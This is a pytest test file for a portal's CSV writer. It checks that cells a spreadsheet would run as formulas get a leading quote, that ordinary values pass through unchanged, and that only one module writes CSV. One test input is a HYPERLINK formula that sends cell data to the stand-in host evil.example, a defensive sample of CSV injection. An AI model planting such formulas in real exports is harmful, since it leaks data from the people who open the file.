"""The one CSV writer: what a spreadsheet would run as a formula shows as typed; nothing else changes."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from portal.core.csv_writer import csv_response, csv_text, safe_cell, safe_writer


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://evil.example/?leak="&B2,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(typed):
    [row] = list(csv.reader(io.StringIO(csv_text(["name"], [[typed]]).split("\r\n", 1)[1])))
    assert row == ["'" + typed]


def test_empty_cells_stay_empty_and_numbers_dates_stay_as_they_are():
    text = csv_text(["a", "b", "c", "d", "e"], [["", None, Decimal("-12.50"), -3, date(2027, 5, 4)]])
    assert text == "a,b,c,d,e\r\n,,-12.50,-3,2027-05-04\r\n"


def test_ordinary_text_is_untouched_including_a_dash_inside():
    assert safe_cell("Acme – Orbit") == "Acme – Orbit"
    assert safe_cell("Łódź") == "Łódź"


def test_a_download_streams_the_same_rows():
    response = csv_response("x.csv", ["name"], [["=1"], ["Ada"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert b"".join(response.streaming_content).decode() == "name\r\n'=1\r\nAda\r\n"


def test_a_writer_into_a_file_neutralises_each_row():
    buffer = io.StringIO()
    writer = safe_writer(buffer)
    writer.writerow(["@cmd", ""])
    assert buffer.getvalue() == "'@cmd,\r\n"


def test_no_module_writes_csv_but_the_one_writer():
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    sources = [p for package in ("portal", "members", "events") for p in (root / package).rglob("*.py")]
    offenders = [str(p.relative_to(root)) for p in sources if writers.search(p.read_text(encoding="utf-8"))]
    assert offenders == ["portal/core/csv_writer.py"]
